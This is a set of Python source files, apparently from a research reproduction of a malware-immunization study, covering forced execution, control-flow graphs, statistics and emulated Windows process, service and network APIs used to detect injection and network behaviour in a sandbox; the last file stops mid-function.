        prev_x = frontier[prev_k]
        prev_y = prev_x - prev_k
        while x > prev_x and y > prev_y:  # snake: matched diagonal run
            x -= 1
            y -= 1
            script.append((0, x))
        if x == prev_x:
            script.append((2, prev_y))  # vertical move: insert b[prev_y]
        else:
            script.append((1, prev_x))  # horizontal move: delete a[prev_x]
        x, y = prev_x, prev_y
    while x > 0 and y > 0:  # d == 0: leading matched run
        x -= 1
        y -= 1
        script.append((0, x))
    script.reverse()
    return script


#: Signature shared by all aligners.
Aligner = Callable[[Sequence[ApiCallEvent], Sequence[ApiCallEvent]], AlignmentResult]
