"""Enforced execution — exploring resource-sensitive dormant paths.

The paper (§VIII): "prior research has explored the enforced execution and
reverting to trigger malware's dormant functions … Our enforced execution
applies similar techniques introduced in the forced execution [31] but we
focus on these environment/system resource sensitive branches."

One profiling run only sees one side of each resource check: a sample that
probes ``mutexA`` *and then, only if infected,* checks ``fileB`` never reveals
``fileB`` on a clean machine.  :func:`explore_resource_paths` re-runs the
sample with individual resource-API call-site outcomes flipped
(success↔failure), discovering candidate resources on the dormant sides.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Set, Tuple

from ..core.candidate import CandidateReport, CandidateResource, analyze_trace
from ..core.runner import DEFAULT_BUDGET, run_sample
from ..tracing.events import ApiCallEvent
from ..vm.program import Program
from ..winapi.dispatcher import Interception
from ..winapi.labels import ApiDef
from ..winenv.environment import SystemEnvironment


class _FlipOutcome:
    """Interceptor flipping one call site's natural outcome."""

    def __init__(self, api: str, caller_pc: int, to_success: bool) -> None:
        self.api = api
        self.caller_pc = caller_pc
        self.to_success = to_success
        self.fired = 0

    def intercept(self, apidef: ApiDef, event: ApiCallEvent) -> Interception:
        if event.api != self.api or event.caller_pc != self.caller_pc:
            return Interception.PASS
        self.fired += 1
        return Interception.FORCE_SUCCESS if self.to_success else Interception.FORCE_FAIL


@dataclass
class ExplorationResult:
    """Phase-I output enriched by dormant-path discovery."""

    base: CandidateReport
    #: Candidates only visible on flipped paths, keyed like base candidates.
    discovered: List[CandidateResource] = field(default_factory=list)
    runs: int = 1
    flipped_sites: List[Tuple[str, int, bool]] = field(default_factory=list)

    @property
    def all_candidates(self) -> List[CandidateResource]:
        return list(self.base.candidates) + list(self.discovered)


def explore_resource_paths(
    program: Program,
    environment: Optional[SystemEnvironment] = None,
    max_steps: int = DEFAULT_BUDGET,
    max_flips: int = 16,
) -> ExplorationResult:
    """Profile normally, then flip each resource-sensitive call site once.

    Only sites whose result reached a predicate (they can steer execution)
    are flipped, and each flip inverts the site's natural outcome — the
    cheap, targeted subset of full multi-path exploration.
    """
    base_run = run_sample(program, environment=environment, max_steps=max_steps)
    base = analyze_trace(program.name, base_run)
    result = ExplorationResult(base=base)

    known: Set[Tuple] = {c.key for c in base.candidates}
    discovered: Dict[Tuple, CandidateResource] = {}

    sites = _flippable_sites(base)[:max_flips]
    for api, caller_pc, natural_success in sites:
        flip = _FlipOutcome(api, caller_pc, to_success=not natural_success)
        run = run_sample(
            program,
            environment=environment,
            interceptors=[flip],
            max_steps=max_steps,
        )
        result.runs += 1
        result.flipped_sites.append((api, caller_pc, not natural_success))
        report = analyze_trace(program.name, run)
        for candidate in report.candidates:
            if candidate.key in known or candidate.key in discovered:
                existing = discovered.get(candidate.key)
                if existing is not None:
                    existing.operations |= candidate.operations
                    existing.apis |= candidate.apis
                continue
            if candidate.influences_control_flow or candidate.had_failure:
                discovered[candidate.key] = candidate

    result.discovered = sorted(
        discovered.values(), key=lambda c: (c.resource_type.value, c.identifier)
    )
    return result


def _flippable_sites(report: CandidateReport) -> List[Tuple[str, int, bool]]:
    """(api, caller_pc, natural_success) for influential resource call sites."""
    influential_ids = set()
    for candidate in report.candidates:
        if candidate.influences_control_flow:
            influential_ids.update(candidate.event_ids)
    sites: Dict[Tuple[str, int], bool] = {}
    for event in report.trace.resource_events():
        if event.event_id not in influential_ids:
            continue
        key = (event.api, event.caller_pc)
        sites.setdefault(key, event.success)
    return [(api, pc, success) for (api, pc), success in sites.items()]
