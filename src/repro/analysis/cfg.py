"""Static control-flow graph over an assembled program.

Used by forced-execution exploration (branch discovery, coverage accounting)
and available for offline inspection of corpus samples.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, FrozenSet, List, Optional, Set, Tuple

from ..vm.isa import Instruction
from ..vm.operands import ApiRef, Imm
from ..vm.program import Program


@dataclass
class BasicBlock:
    """A maximal straight-line instruction run."""

    start: int                    # pc of the first instruction
    end: int                      # pc one past the last instruction
    successors: Tuple[int, ...] = ()

    @property
    def size(self) -> int:
        return self.end - self.start

    def __contains__(self, pc: int) -> bool:
        return self.start <= pc < self.end


@dataclass
class ControlFlowGraph:
    """Basic blocks keyed by start pc, plus derived queries."""

    program: Program
    blocks: Dict[int, BasicBlock] = field(default_factory=dict)
    entry: int = 0

    def block_at(self, pc: int) -> Optional[BasicBlock]:
        for block in self.blocks.values():
            if pc in block:
                return block
        return None

    def reachable_blocks(self) -> Set[int]:
        """Block starts reachable from the entry."""
        seen: Set[int] = set()
        work = [self.entry]
        while work:
            start = work.pop()
            if start in seen or start not in self.blocks:
                continue
            seen.add(start)
            work.extend(self.blocks[start].successors)
        return seen

    def unreachable_code(self) -> Set[int]:
        reachable = self.reachable_blocks()
        return {start for start in self.blocks if start not in reachable}

    def conditional_branch_pcs(self) -> List[int]:
        """pcs of conditional jumps (the paths forced execution can flip)."""
        out = []
        for i, instr in enumerate(self.program.instructions):
            if instr.is_conditional_jump:
                out.append(self.program.text_base + i)
        return out

    def api_call_sites(self) -> List[Tuple[int, str]]:
        out = []
        for i, instr in enumerate(self.program.instructions):
            if instr.mnemonic == "call" and isinstance(instr.operands[0], ApiRef):
                out.append((self.program.text_base + i, instr.operands[0].name))
        return out

    def coverage(self, executed_pcs: Set[int]) -> float:
        """Fraction of reachable instructions covered by a set of pcs."""
        reachable_instrs = sum(
            self.blocks[s].size for s in self.reachable_blocks()
        )
        if not reachable_instrs:
            return 0.0
        covered = sum(1 for pc in executed_pcs if self.block_at(pc) is not None)
        return min(1.0, covered / reachable_instrs)


def build_cfg(program: Program) -> ControlFlowGraph:
    """Construct the CFG: leaders at jump targets and fall-throughs."""
    base = program.text_base
    n = len(program.instructions)
    if n == 0:
        return ControlFlowGraph(program=program, entry=program.entry)

    leaders: Set[int] = {program.entry, base}
    for i, instr in enumerate(program.instructions):
        pc = base + i
        target = _static_target(instr)
        if instr.is_jump or instr.mnemonic == "ret" or instr.mnemonic == "halt":
            if pc + 1 < base + n:
                leaders.add(pc + 1)
            if target is not None:
                leaders.add(target)
        elif instr.mnemonic == "call" and target is not None:
            leaders.add(target)
            if pc + 1 < base + n:
                leaders.add(pc + 1)

    ordered = sorted(p for p in leaders if base <= p < base + n)
    blocks: Dict[int, BasicBlock] = {}
    for idx, start in enumerate(ordered):
        end = ordered[idx + 1] if idx + 1 < len(ordered) else base + n
        # A block may end early at its first control-transfer instruction.
        stop = start
        while stop < end:
            instr = program.instructions[stop - base]
            stop += 1
            if instr.is_jump or instr.mnemonic in ("ret", "halt", "call"):
                break
        last = program.instructions[stop - 1 - base]
        successors = _successors(last, stop - 1, base, n)
        blocks[start] = BasicBlock(start=start, end=stop, successors=successors)
        # Residual instructions after an early stop form their own block(s);
        # they are picked up because stop is also a leader (fall-through).
        if stop < end and stop not in leaders:
            ordered.insert(idx + 1, stop)

    return ControlFlowGraph(program=program, blocks=blocks, entry=program.entry)


def _static_target(instr: Instruction) -> Optional[int]:
    if not instr.operands:
        return None
    op = instr.operands[0]
    if isinstance(op, Imm):
        return op.value
    return None


def _successors(last: Instruction, pc: int, base: int, n: int) -> Tuple[int, ...]:
    succ: List[int] = []
    target = _static_target(last)
    if last.mnemonic == "jmp":
        if target is not None:
            succ.append(target)
    elif last.is_conditional_jump:
        if target is not None:
            succ.append(target)
        if pc + 1 < base + n:
            succ.append(pc + 1)
    elif last.mnemonic in ("halt", "ret"):
        pass
    elif last.mnemonic == "call":
        # Guest calls return; API calls fall through.
        if pc + 1 < base + n:
            succ.append(pc + 1)
        if target is not None and base <= target < base + n:
            succ.append(target)
    else:
        if pc + 1 < base + n:
            succ.append(pc + 1)
    return tuple(dict.fromkeys(succ))
