"""Distribution statistics for reproduction quality checks.

Used by the benches to *quantify* how close a measured categorical
distribution (Table II mix, Figure 3 shares) is to the paper's, instead of
eyeballing orderings.
"""

from __future__ import annotations

import math
from typing import Dict, Mapping, Sequence, Tuple


def normalize(counts: Mapping[str, float]) -> Dict[str, float]:
    """Counts -> probability distribution (empty input -> empty dict)."""
    total = float(sum(counts.values()))
    if total <= 0:
        return {}
    return {k: v / total for k, v in counts.items()}


def total_variation(p: Mapping[str, float], q: Mapping[str, float]) -> float:
    """Total-variation distance between two categorical distributions
    (0 = identical, 1 = disjoint).  Inputs may be raw counts."""
    pn, qn = normalize(p), normalize(q)
    keys = set(pn) | set(qn)
    return 0.5 * sum(abs(pn.get(k, 0.0) - qn.get(k, 0.0)) for k in keys)


def rank_agreement(p: Mapping[str, float], q: Mapping[str, float]) -> float:
    """Kendall-style agreement of category orderings in [0, 1].

    1.0 = both distributions order all shared categories identically.
    """
    keys = sorted(set(p) & set(q))
    if len(keys) < 2:
        return 1.0
    concordant = discordant = 0
    for i in range(len(keys)):
        for j in range(i + 1, len(keys)):
            a = p[keys[i]] - p[keys[j]]
            b = q[keys[i]] - q[keys[j]]
            if a * b > 0:
                concordant += 1
            elif a * b < 0:
                discordant += 1
    total = concordant + discordant
    return 1.0 if total == 0 else concordant / total


def chi_square_statistic(
    observed: Mapping[str, float], expected: Mapping[str, float]
) -> float:
    """Pearson chi-square of observed counts vs an expected *distribution*
    (expected is normalized to the observed total)."""
    total = float(sum(observed.values()))
    exp_dist = normalize(expected)
    stat = 0.0
    for key, share in exp_dist.items():
        exp = share * total
        if exp > 0:
            obs = float(observed.get(key, 0.0))
            stat += (obs - exp) ** 2 / exp
    return stat


def geometric_mean_ratio(
    measured: Mapping[str, float], paper: Mapping[str, float]
) -> float:
    """Geometric mean of measured/paper share ratios over shared categories —
    a single 'scale agreement' number (1.0 = perfect)."""
    pn, qn = normalize(measured), normalize(paper)
    ratios = [pn[k] / qn[k] for k in set(pn) & set(qn) if pn.get(k) and qn.get(k)]
    if not ratios:
        return 0.0
    return math.exp(sum(math.log(r) for r in ratios) / len(ratios))


def summarize(values: Sequence[float]) -> Tuple[float, float, float, float]:
    """(min, mean, median, max) of a non-empty sequence."""
    if not values:
        raise ValueError("empty sequence")
    ordered = sorted(values)
    n = len(ordered)
    median = (
        ordered[n // 2] if n % 2 else (ordered[n // 2 - 1] + ordered[n // 2]) / 2
    )
    return ordered[0], sum(ordered) / n, median, ordered[-1]
