"""API labelling database (paper §III-A, Table I).

Every hooked API carries a label describing, exactly as the paper's examples
for ``OpenMutex``/``ReadFile``:

* the resource type and where the resource identifier lives (a string
  argument, or a handle argument resolved through the handle map),
* the success and failure encodings (return value + ``GetLastError``),
* whether the return value / an out-argument is tainted, and with which
  :class:`~repro.taint.labels.TaintClass` (resource access vs deterministic
  environment input vs per-run randomness).

Implementations register through the :func:`api` decorator, which populates
the global :data:`REGISTRY` the dispatcher works from.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from typing import Callable, Dict, Optional, Tuple

from ..taint.labels import TaintClass
from ..winenv.errors import Win32Error
from ..winenv.objects import Operation, ResourceType


class Returns(enum.Enum):
    """Shape of an API's return value (drives fabricated successes)."""

    HANDLE = "handle"      # failure NULL / INVALID_HANDLE_VALUE
    BOOL = "bool"          # failure FALSE
    VALUE = "value"        # plain value, failure by convention
    ERRCODE = "errcode"    # Win32 error code returned directly (Reg* APIs)
    NTSTATUS = "ntstatus"  # failure = negative status
    VOID = "void"


class Calling(enum.Enum):
    STDCALL = "stdcall"    # dispatcher pops declared args
    CDECL = "cdecl"        # caller cleans up (variadic APIs)


@dataclass(frozen=True)
class FailureSpec:
    """Labelled failure encoding: what the guest sees when the call fails."""

    retval: int
    last_error: Win32Error = Win32Error.SUCCESS


@dataclass
class ApiDef:
    """One labelled API."""

    name: str
    argc: int
    impl: Callable = None  # type: ignore[assignment]
    returns: Returns = Returns.VALUE
    calling: Calling = Calling.STDCALL
    resource_type: Optional[ResourceType] = None
    operation: Optional[Operation] = None
    #: Index of the argument holding the identifier string pointer.
    identifier_arg: Optional[int] = None
    #: Index of a handle argument whose resource names the identifier.
    identifier_handle_arg: Optional[int] = None
    #: (hive/parent-handle arg, subkey arg) for registry open-by-path APIs;
    #: the dispatcher joins them into the full key path pre-interception.
    registry_path_args: Optional[Tuple[int, int]] = None
    #: Taint class minted on the result (None = result not tainted).
    taint_class: Optional[TaintClass] = None
    failure: FailureSpec = field(default_factory=lambda: FailureSpec(0, Win32Error.SUCCESS))
    #: Does this API count as a "network behavior" API (Type-II detection)?
    network: bool = False
    #: Short human description for docs/tests.
    doc: str = ""

    @property
    def is_resource_api(self) -> bool:
        return self.resource_type is not None


#: Global name -> ApiDef registry; populated at import of repro.winapi.
REGISTRY: Dict[str, ApiDef] = {}


def api(
    name: str,
    argc: int,
    returns: Returns = Returns.VALUE,
    calling: Calling = Calling.STDCALL,
    resource: Optional[ResourceType] = None,
    operation: Optional[Operation] = None,
    identifier_arg: Optional[int] = None,
    identifier_handle_arg: Optional[int] = None,
    registry_path_args: Optional[Tuple[int, int]] = None,
    taint: Optional[TaintClass] = None,
    failure: Optional[FailureSpec] = None,
    network: bool = False,
    doc: str = "",
) -> Callable:
    """Register an API implementation under its label.

    The wrapped function receives an
    :class:`~repro.winapi.context.ApiContext` and returns the success
    return-value (int).  Raising
    :class:`~repro.winenv.errors.ResourceFault` signals the labelled failure
    path with the fault's error code.
    """

    if failure is None:
        default_fail = {
            Returns.HANDLE: FailureSpec(0, Win32Error.FILE_NOT_FOUND),
            Returns.BOOL: FailureSpec(0, Win32Error.INVALID_PARAMETER),
            Returns.VALUE: FailureSpec(0, Win32Error.INVALID_PARAMETER),
            Returns.ERRCODE: FailureSpec(
                int(Win32Error.FILE_NOT_FOUND), Win32Error.FILE_NOT_FOUND
            ),
            Returns.NTSTATUS: FailureSpec(0xC0000001, Win32Error.SUCCESS),
            Returns.VOID: FailureSpec(0, Win32Error.SUCCESS),
        }[returns]
        failure = default_fail

    def register(func: Callable) -> Callable:
        if name in REGISTRY:
            raise ValueError(f"duplicate API registration: {name}")
        REGISTRY[name] = ApiDef(
            name=name,
            argc=argc,
            impl=func,
            returns=returns,
            calling=calling,
            resource_type=resource,
            operation=operation,
            identifier_arg=identifier_arg,
            identifier_handle_arg=identifier_handle_arg,
            registry_path_args=registry_path_args,
            taint_class=taint,
            failure=failure,
            network=network,
            doc=doc or (func.__doc__ or "").strip().splitlines()[0] if (doc or func.__doc__) else "",
        )
        return func

    return register


def lookup(name: str) -> ApiDef:
    try:
        return REGISTRY[name]
    except KeyError:
        raise KeyError(f"unknown API {name!r}; is repro.winapi imported?") from None


def resource_apis() -> Tuple[ApiDef, ...]:
    return tuple(d for d in REGISTRY.values() if d.is_resource_api)


def hooked_api_count() -> int:
    """Number of labelled taint-source APIs (paper hooks 89)."""
    return sum(1 for d in REGISTRY.values() if d.taint_class is not None)


# Pseudo-handles for registry hives (match Win32 values).
HKEY_LOCAL_MACHINE = 0x80000002
HKEY_CURRENT_USER = 0x80000001
HIVE_NAMES = {HKEY_LOCAL_MACHINE: "hklm", HKEY_CURRENT_USER: "hkcu"}
