"""Process and thread APIs, including the injection primitives whose trace
patterns drive Type-IV (benign-process injection) detection."""

from __future__ import annotations

from ..taint.labels import TaintClass
from ..winenv.acl import Access, IntegrityLevel
from ..winenv.errors import NULL, ResourceFault, TRUE, Win32Error
from ..winenv.objects import HandleKind, Operation, ResourceType
from .context import ApiContext
from .labels import FailureSpec, Returns, api


@api(
    "CreateProcessA",
    argc=4,
    returns=Returns.BOOL,
    resource=ResourceType.PROCESS,
    operation=Operation.CREATE,
    identifier_arg=0,
    taint=TaintClass.RESOURCE,
    failure=FailureSpec(0, Win32Error.FILE_NOT_FOUND),
)
def create_process(ctx: ApiContext) -> int:
    """Spawn a child process from an image path (signature reduced to
    ``(lpApplicationName, lpCommandLine, lpStartupInfo, lpProcessInformation)``)."""
    image = ctx.identifier or ""
    if not image:
        image, _ = ctx.read_string_arg(1)
    norm = image.lower()
    node = ctx.env.filesystem.lookup(norm)
    if node is None:
        raise ResourceFault(Win32Error.FILE_NOT_FOUND, norm)
    node.acl.check(ctx.integrity, Access.EXECUTE)
    from ..winenv.filesystem import basename

    child = ctx.env.processes.spawn(
        basename(norm), image_path=norm, integrity=ctx.integrity, parent_pid=ctx.process.pid
    )
    ctx.extra["child_pid"] = child.pid
    info_ptr = ctx.arg(3)
    if info_ptr:
        handle = ctx.alloc_handle(HandleKind.PROCESS, child)
        ctx.write_u32(info_ptr, handle.value, ctx.mint_tag())
        ctx.write_u32(info_ptr + 4, child.pid)
    return TRUE


@api(
    "OpenProcess",
    argc=3,
    returns=Returns.HANDLE,
    resource=ResourceType.PROCESS,
    operation=Operation.READ,
    taint=TaintClass.RESOURCE,
    failure=FailureSpec(NULL, Win32Error.INVALID_PARAMETER),
)
def open_process(ctx: ApiContext) -> int:
    pid = ctx.arg(2)
    proc = ctx.env.processes.open(pid)
    ctx.identifier = proc.name
    ctx.extra["target_pid"] = pid
    handle = ctx.alloc_handle(HandleKind.PROCESS, proc)
    return handle.value


@api(
    "FindProcessA",
    argc=1,
    returns=Returns.VALUE,
    resource=ResourceType.PROCESS,
    operation=Operation.CHECK,
    identifier_arg=0,
    taint=TaintClass.RESOURCE,
    failure=FailureSpec(0, Win32Error.FILE_NOT_FOUND),
    doc="Convenience Toolhelp-walk: pid of the first alive process by name.",
)
def find_process(ctx: ApiContext) -> int:
    proc = ctx.env.processes.find_by_name(ctx.identifier or "")
    if proc is None:
        raise ResourceFault(Win32Error.FILE_NOT_FOUND, ctx.identifier or "")
    return proc.pid


@api(
    "VirtualAllocEx",
    argc=5,
    returns=Returns.VALUE,
    failure=FailureSpec(NULL, Win32Error.ACCESS_DENIED),
)
def virtual_alloc_ex(ctx: ApiContext) -> int:
    ctx.handle_arg(0)
    return 0x7F000000  # remote allocation base (opaque)


@api(
    "WriteProcessMemory",
    argc=5,
    returns=Returns.BOOL,
    resource=ResourceType.PROCESS,
    operation=Operation.WRITE,
    identifier_handle_arg=0,
    taint=TaintClass.RESOURCE,
    failure=FailureSpec(0, Win32Error.ACCESS_DENIED),
)
def write_process_memory(ctx: ApiContext) -> int:
    """Cross-process write — the core injection evidence."""
    handle = ctx.handle_arg(0)
    size = ctx.arg(3)
    target = handle.resource
    if target is None or handle.state.get("phantom"):
        raise ResourceFault(Win32Error.INVALID_HANDLE)
    if target.integrity > ctx.integrity:
        raise ResourceFault(Win32Error.ACCESS_DENIED, target.name)
    from ..winenv.processes import RemoteWrite

    target.remote_writes.append(RemoteWrite(writer_pid=ctx.process.pid, size=size))
    ctx.extra["target_process"] = target.name
    return TRUE


@api(
    "CreateRemoteThread",
    argc=7,
    returns=Returns.HANDLE,
    resource=ResourceType.PROCESS,
    operation=Operation.EXECUTE,
    identifier_handle_arg=0,
    taint=TaintClass.RESOURCE,
    failure=FailureSpec(NULL, Win32Error.ACCESS_DENIED),
)
def create_remote_thread(ctx: ApiContext) -> int:
    handle = ctx.handle_arg(0)
    target = handle.resource
    if target is None or handle.state.get("phantom"):
        raise ResourceFault(Win32Error.INVALID_HANDLE)
    if target.integrity > ctx.integrity:
        raise ResourceFault(Win32Error.ACCESS_DENIED, target.name)
    target.remote_threads.append(ctx.process.pid)
    ctx.extra["target_process"] = target.name
    thread = ctx.alloc_handle(HandleKind.THREAD, target)
    return thread.value


@api("GetCurrentProcessId", argc=0, returns=Returns.VALUE)
def get_current_process_id(ctx: ApiContext) -> int:
    return ctx.process.pid


@api("TerminateProcess", argc=2, returns=Returns.BOOL)
def terminate_process(ctx: ApiContext) -> int:
    """Terminate a process (self-termination ends the run)."""
    handle = ctx.handle_arg(0)
    code = ctx.arg(1)
    target = handle.resource
    if target is not None and target.pid != ctx.process.pid:
        target.terminate(code)
        return TRUE
    ctx.cpu.terminate(code)
    return TRUE


@api("ExitProcess", argc=1, returns=Returns.VOID)
def exit_process(ctx: ApiContext) -> int:
    ctx.cpu.terminate(ctx.arg(0))
    return 0


@api("ExitThread", argc=1, returns=Returns.VOID)
def exit_thread(ctx: ApiContext) -> int:
    """Single-threaded guests: exiting the main thread ends the process."""
    ctx.cpu.terminate(ctx.arg(0))
    return 0


@api("IsDebuggerPresent", argc=0, returns=Returns.VALUE, taint=TaintClass.ENV_DETERMINISTIC)
def is_debugger_present(ctx: ApiContext) -> int:
    return 0


@api("Sleep", argc=1, returns=Returns.VOID)
def sleep(ctx: ApiContext) -> int:
    return 0
