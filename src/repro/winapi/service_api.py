"""Service Control Manager APIs (Type-I kernel-injection / Type-III
persistence signals)."""

from __future__ import annotations

from ..taint.labels import TaintClass
from ..winenv.errors import NULL, ResourceFault, TRUE, Win32Error
from ..winenv.objects import HandleKind, Operation, ResourceType
from .context import ApiContext
from .labels import FailureSpec, Returns, api


@api(
    "OpenSCManagerA",
    argc=3,
    returns=Returns.HANDLE,
    resource=ResourceType.SERVICE,
    operation=Operation.READ,
    taint=TaintClass.RESOURCE,
    failure=FailureSpec(NULL, Win32Error.ACCESS_DENIED),
    doc="Open the SCM — the gateway call of kernel-driver injection (§IV-B).",
)
def open_sc_manager(ctx: ApiContext) -> int:
    from ..winenv.acl import IntegrityLevel

    ctx.identifier = "scmanager"
    if ctx.integrity < IntegrityLevel.MEDIUM:
        raise ResourceFault(Win32Error.ACCESS_DENIED, "SCM requires medium integrity")
    handle = ctx.alloc_handle(HandleKind.SCMANAGER, None)
    return handle.value


@api(
    "CreateServiceA",
    argc=6,
    returns=Returns.HANDLE,
    resource=ResourceType.SERVICE,
    operation=Operation.CREATE,
    identifier_arg=1,
    taint=TaintClass.RESOURCE,
    failure=FailureSpec(NULL, Win32Error.SERVICE_EXISTS),
)
def create_service(ctx: ApiContext) -> int:
    """Register a service: ``(hSCM, name, display, type, start, binaryPath)``."""
    ctx.handle_arg(0)
    name = ctx.identifier or ""
    path, _ = ctx.read_string_arg(5)
    svc = ctx.env.services.create(name, path, ctx.integrity, created_by=ctx.process.pid)
    ctx.extra["binary_path"] = svc.binary_path
    ctx.extra["kernel_driver"] = svc.is_kernel_driver
    handle = ctx.alloc_handle(HandleKind.SERVICE, svc)
    return handle.value


@api(
    "OpenServiceA",
    argc=3,
    returns=Returns.HANDLE,
    resource=ResourceType.SERVICE,
    operation=Operation.CHECK,
    identifier_arg=1,
    taint=TaintClass.RESOURCE,
    failure=FailureSpec(NULL, Win32Error.SERVICE_DOES_NOT_EXIST),
)
def open_service(ctx: ApiContext) -> int:
    ctx.handle_arg(0)
    svc = ctx.env.services.open(ctx.identifier or "")
    handle = ctx.alloc_handle(HandleKind.SERVICE, svc)
    return handle.value


@api(
    "StartServiceA",
    argc=3,
    returns=Returns.BOOL,
    resource=ResourceType.SERVICE,
    operation=Operation.EXECUTE,
    identifier_handle_arg=0,
    taint=TaintClass.RESOURCE,
    failure=FailureSpec(0, Win32Error.SERVICE_ALREADY_RUNNING),
)
def start_service(ctx: ApiContext) -> int:
    handle = ctx.handle_arg(0)
    if handle.resource is None or handle.state.get("phantom"):
        raise ResourceFault(Win32Error.INVALID_HANDLE)
    svc = ctx.env.services.start(handle.resource.name, ctx.integrity)
    ctx.extra["kernel_driver"] = svc.is_kernel_driver
    return TRUE


@api(
    "DeleteService",
    argc=1,
    returns=Returns.BOOL,
    resource=ResourceType.SERVICE,
    operation=Operation.DELETE,
    identifier_handle_arg=0,
    taint=TaintClass.RESOURCE,
    failure=FailureSpec(0, Win32Error.ACCESS_DENIED),
)
def delete_service(ctx: ApiContext) -> int:
    handle = ctx.handle_arg(0)
    if handle.resource is None:
        raise ResourceFault(Win32Error.INVALID_HANDLE)
    ctx.env.services.delete(handle.resource.name, ctx.integrity)
    return TRUE


@api("CloseServiceHandle", argc=1, returns=Returns.BOOL)
def close_service_handle(ctx: ApiContext) -> int:
    ctx.process.handles.close(ctx.arg(0))
    return TRUE


@api(
    "NtLoadDriver",
    argc=1,
    returns=Returns.NTSTATUS,
    resource=ResourceType.SERVICE,
    operation=Operation.EXECUTE,
    identifier_arg=0,
    taint=TaintClass.RESOURCE,
    doc="Undocumented driver load — unambiguous kernel injection.",
)
def nt_load_driver(ctx: ApiContext) -> int:
    from ..winenv.acl import IntegrityLevel

    if ctx.integrity < IntegrityLevel.HIGH:
        raise ResourceFault(Win32Error.ACCESS_DENIED, "driver load requires high integrity")
    svc = ctx.env.services.lookup(ctx.identifier or "")
    if svc is None:
        raise ResourceFault(Win32Error.SERVICE_DOES_NOT_EXIST, ctx.identifier or "")
    ctx.extra["kernel_driver"] = True
    return 0
