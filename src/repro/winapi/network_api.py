"""Network APIs — the activity Type-II partial immunization silences.

All are flagged ``network=True`` so differential analysis can measure the
network-call mass lost between the natural and the mutated run.
"""

from __future__ import annotations

from ..taint.labels import TaintClass
from ..winenv.errors import NULL, ResourceFault, TRUE, Win32Error
from ..winenv.objects import HandleKind, Operation, ResourceType
from .context import ApiContext
from .labels import FailureSpec, Returns, api

INVALID_SOCKET = 0xFFFFFFFF


@api(
    "socket",
    argc=3,
    returns=Returns.HANDLE,
    network=True,
    failure=FailureSpec(INVALID_SOCKET, Win32Error.INVALID_PARAMETER),
)
def socket_(ctx: ApiContext) -> int:
    handle = ctx.alloc_handle(HandleKind.SOCKET, None)
    return handle.value


@api(
    "connect",
    argc=3,
    returns=Returns.VALUE,
    network=True,
    failure=FailureSpec(0xFFFFFFFF, Win32Error.CONNECTION_REFUSED),
    doc="Simplified: (socket, host string pointer, port).",
)
def connect_(ctx: ApiContext) -> int:
    handle = ctx.handle_arg(0)
    host, _ = ctx.read_string_arg(1)
    port = ctx.arg(2)
    conn = ctx.env.network.connect(ctx.process.pid, host, port)
    handle.state["conn_id"] = conn.conn_id
    return 0


@api(
    "send",
    argc=4,
    returns=Returns.VALUE,
    network=True,
    failure=FailureSpec(0xFFFFFFFF, Win32Error.CONNECTION_REFUSED),
)
def send_(ctx: ApiContext) -> int:
    handle = ctx.handle_arg(0)
    buf, size = ctx.arg(1), ctx.arg(2)
    conn_id = handle.state.get("conn_id")
    if conn_id is None:
        raise ResourceFault(Win32Error.INVALID_HANDLE)
    data = ctx.read_buffer(buf, size)
    return ctx.env.network.send(ctx.process.pid, conn_id, data)


@api(
    "recv",
    argc=4,
    returns=Returns.VALUE,
    network=True,
    failure=FailureSpec(0xFFFFFFFF, Win32Error.CONNECTION_REFUSED),
)
def recv_(ctx: ApiContext) -> int:
    handle = ctx.handle_arg(0)
    buf, size = ctx.arg(1), ctx.arg(2)
    conn_id = handle.state.get("conn_id")
    if conn_id is None:
        raise ResourceFault(Win32Error.INVALID_HANDLE)
    data = ctx.env.network.recv(ctx.process.pid, conn_id, size)
    ctx.write_buffer(buf, data)
    return len(data)


@api("closesocket", argc=1, returns=Returns.VALUE, network=True)
def closesocket_(ctx: ApiContext) -> int:
    handle = ctx.process.handles.get(ctx.arg(0))
    if handle is not None and "conn_id" in handle.state:
        ctx.env.network.close(handle.state["conn_id"])
    ctx.process.handles.close(ctx.arg(0))
    return 0


@api(
    "gethostbyname",
    argc=1,
    returns=Returns.VALUE,
    network=True,
    failure=FailureSpec(NULL, Win32Error.HOST_UNREACHABLE),
)
def gethostbyname_(ctx: ApiContext) -> int:
    name, _ = ctx.read_string_arg(0)
    addr = ctx.env.network.resolve(name)
    return sum(int(p) << (8 * i) for i, p in enumerate(addr.split(".")))


@api(
    "DnsQuery_A",
    argc=1,
    returns=Returns.VALUE,
    network=True,
    failure=FailureSpec(9003, Win32Error.HOST_UNREACHABLE),  # DNS_ERROR_RCODE_NAME_ERROR
)
def dns_query(ctx: ApiContext) -> int:
    name, _ = ctx.read_string_arg(0)
    ctx.env.network.resolve(name)
    return 0


@api(
    "InternetOpenA",
    argc=1,
    returns=Returns.HANDLE,
    network=True,
    failure=FailureSpec(NULL, Win32Error.INVALID_PARAMETER),
)
def internet_open(ctx: ApiContext) -> int:
    handle = ctx.alloc_handle(HandleKind.INTERNET, None)
    return handle.value


@api(
    "InternetConnectA",
    argc=3,
    returns=Returns.HANDLE,
    network=True,
    failure=FailureSpec(NULL, Win32Error.CONNECTION_REFUSED),
)
def internet_connect(ctx: ApiContext) -> int:
    ctx.handle_arg(0)
    host, _ = ctx.read_string_arg(1)
    port = ctx.arg(2) or 80
    conn = ctx.env.network.connect(ctx.process.pid, host, port)
    handle = ctx.alloc_handle(HandleKind.INTERNET, None)
    handle.state["conn_id"] = conn.conn_id
    return handle.value


@api(
    "HttpSendRequestA",
    argc=2,
    returns=Returns.BOOL,
    network=True,
    failure=FailureSpec(0, Win32Error.CONNECTION_REFUSED),
)
def http_send_request(ctx: ApiContext) -> int:
    handle = ctx.handle_arg(0)
    conn_id = handle.state.get("conn_id")
    if conn_id is None:
        raise ResourceFault(Win32Error.INVALID_HANDLE)
    ctx.env.network.send(ctx.process.pid, conn_id, b"GET / HTTP/1.1\r\n\r\n")
    return TRUE


@api(
    "URLDownloadToFileA",
    argc=3,
    returns=Returns.VALUE,
    network=True,
    failure=FailureSpec(0x800C0005, Win32Error.CONNECTION_REFUSED),  # INET_E_RESOURCE_NOT_FOUND
    doc="(caller, url string, target file string) — downloader primitive.",
)
def url_download_to_file(ctx: ApiContext) -> int:
    url, _ = ctx.read_string_arg(1)
    target, _ = ctx.read_string_arg(2)
    host = url.split("//")[-1].split("/")[0]
    conn = ctx.env.network.connect(ctx.process.pid, host, 80)
